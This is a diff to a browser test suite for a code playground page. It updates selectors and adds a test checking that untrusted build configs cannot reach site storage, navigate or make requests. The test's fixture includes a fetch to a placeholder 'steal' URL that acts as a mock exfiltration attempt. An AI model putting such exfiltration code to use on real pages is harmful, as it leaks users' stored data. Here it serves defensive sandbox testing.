@@ -75,7 +75,7 @@ describe('the playground page', () => {
 
   it('shows the effective configuration with links, the project\'s options apart from the defaults', async () => {
     await buildInPage(page, server.url, SIMPLE);
-    await page.click('button[role="tab"]:has-text("Effective configuration")');
+    await page.click('[data-side="config"]');
     const tree = page.locator('[data-effective-config]');
     await tree.waitFor();
     await expect(tree.locator('[data-option="mode"]').getAttribute('data-origin')).resolves.toBe('project');
@@ -83,10 +83,11 @@ describe('the playground page', () => {
     await expect(tree.locator('[data-option="mode"] > a').getAttribute('href')).resolves.toBe('/configuration/mode/');
     await expect(tree.locator('[data-option="output.path"] a').first().getAttribute('href')).resolves.toBe('/configuration/output/#outputpath');
     await expect(tree.locator('[data-option="output.path"] code').first().textContent()).resolves.toBe('"/app/dist"');
-    await page.click('button[role="tab"]:has-text("Output")');
+    await page.click('[data-side="output"]');
   });
 
   it('contains hostile code: no site storage, no navigation of the page, no requests', async () => {
+    if (!page.url().startsWith(server.url)) await buildInPage(page, server.url, SIMPLE);
     await page.evaluate(() => localStorage.setItem('site-secret', 'kept by the site'));
     const files = {
       'webpack.config.js': `module.exports = async () => {
@@ -110,7 +111,7 @@ fetch('https://example.org/steal').then(() => { seen.pageFetch = 'allowed'; }, (
     expect(main).toContain('"configStorage":"blocked"');
     const preview = page.frames().find((frame) => frame.parentFrame()?.url().includes(FRAME_PATH));
     if (!preview) throw new Error('no preview frame');
-    const tries = JSON.parse((await (await preview.waitForSelector('body[data-tries]')).getAttribute('data-tries')) ?? '{}');
+    const tries = JSON.parse((await (await preview.waitForSelector('body[data-tries]', { state: 'attached' })).getAttribute('data-tries')) ?? '{}');
     expect(tries).toEqual({ configFetch: 'blocked', configStorage: 'blocked', pageStorage: 'blocked', pageNavigate: 'blocked', pageFetch: 'blocked' });
     expect(page.url().startsWith(`${origin}/playground/`)).toBe(true);
     expect(outside()).toEqual([]);
